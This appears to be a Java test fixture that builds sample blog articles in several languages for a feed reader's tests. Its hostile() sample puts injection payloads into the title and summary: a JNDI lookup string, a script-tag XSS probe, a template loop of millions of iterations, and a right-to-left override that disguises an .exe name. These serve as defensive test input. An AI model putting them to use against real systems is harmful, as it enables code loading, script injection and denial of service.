// SPDX-License-Identifier: Apache-2.0
package org.tidings.article;

import java.net.URI;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.tidings.config.FeedId;

/// Articles as blogs have them, for the tests of any package.
public final class ArticleSamples {
  private static final Instant FIRST_SEEN = Instant.parse("2026-11-20T08:05:00Z");

  private ArticleSamples() {}

  /// An ordinary English article with everything an article can have.
  public static Article ordinary() {
    return new Article(
        new ArticleId(1),
        new FeedId("blog"),
        Optional.of(URI.create("https://blog.example/2026/11/moving-house")),
        "How we moved four terabytes without downtime",
        "The old disks had three weeks to live. Here is the plan we followed, the two mistakes we"
            + " made, and the bill.",
        "The old disks had three weeks to live. Here is the plan we followed, the two mistakes we"
            + " made, and the bill.\n\nFirst we counted. Nobody had done that for years, and the"
            + " count was wrong twice. Then we copied, compared and copied again.",
        Optional.of("Ann Example"),
        List.of("climate change", "PostgreSQL", "debian 8", "Uncategorized"),
        Optional.of("en"),
        Optional.of(
            new Article.Image(
                URI.create("https://blog.example/media/disks.jpg"),
                Optional.of("Two racks of disks, one of them half empty"))),
        Optional.of(Instant.parse("2026-11-20T08:00:00Z")),
        FIRST_SEEN);
  }

  /// Only what every article has.
  public static Article bare() {
    return new Article(
        new ArticleId(2),
        new FeedId("notes"),
        Optional.empty(),
        "A note",
        "",
        "",
        Optional.empty(),
        List.of(),
        Optional.empty(),
        Optional.empty(),
        Optional.empty(),
        FIRST_SEEN);
  }

  public static Article hindi() {
    return with(
        "जलवायु परिवर्तन और हमारे किसान",
        "इस साल बारिश देर से आई। किसानों ने बताया कि वे क्या बदल रहे हैं।",
        "hi",
        "जलवायु परिवर्तन",
        "खेती");
  }

  public static Article japanese() {
    return with(
        "四テラバイトを止めずに移す方法", "古いディスクの寿命はあと三週間。実際の手順と二つの失敗、そして費用を書きました。", "ja", "データベース", "運用");
  }

  public static Article arabic() {
    return with(
        "كيف نقلنا أربعة تيرابايت دون توقف",
        "لم يبق للأقراص القديمة سوى ثلاثة أسابيع. هذه هي الخطة التي اتبعناها.",
        "ar",
        "قواعد البيانات");
  }

  public static Article emoji() {
    return with(
        "Our team 👨‍👩‍👧‍👦 is in 🇩🇪 and 🏴󠁧󠁢󠁳󠁣󠁴󠁿 now 🧑🏽‍💻",
        "Cafe\u0301 au lait ☕️ and a re\u0301sume\u0301.",
        "en",
        "🎉 Party",
        "news");
  }

  /// Everything a hostile feed would try.
  public static Article hostile() {
    return with(
        "@everyone \u001B[31mred\u001B[0m {{ link }} ${jndi:ldap://x} \u202Egnp.exe"
            + " @ann@host.example",
        "<script>alert(1)</script> AT&amp;T\u200B\uFEFF {% for i in range(1,3000000) %}x{% endfor"
            + " %} \uE000\uE001 \uDC00 mail me@host.example",
        "en",
        "@here",
        "<b>bold</b>",
        "http://schemas.example/kind#post");
  }

  /// The ordinary article with another title.
  public static Article titled(String title) {
    var it = ordinary();
    return new Article(
        it.id(),
        it.feed(),
        it.link(),
        title,
        it.summary(),
        it.text(),
        it.author(),
        it.categories(),
        it.language(),
        it.image(),
        it.published(),
        it.firstSeen());
  }

  /// The ordinary article with other words.
  public static Article with(String title, String summary, String language, String... categories) {
    var it = ordinary();
    return new Article(
        it.id(),
        it.feed(),
        it.link(),
        title,
        summary,
        summary,
        it.author(),
        List.of(categories),
        Optional.of(language),
        it.image(),
        it.published(),
        it.firstSeen());
  }
}
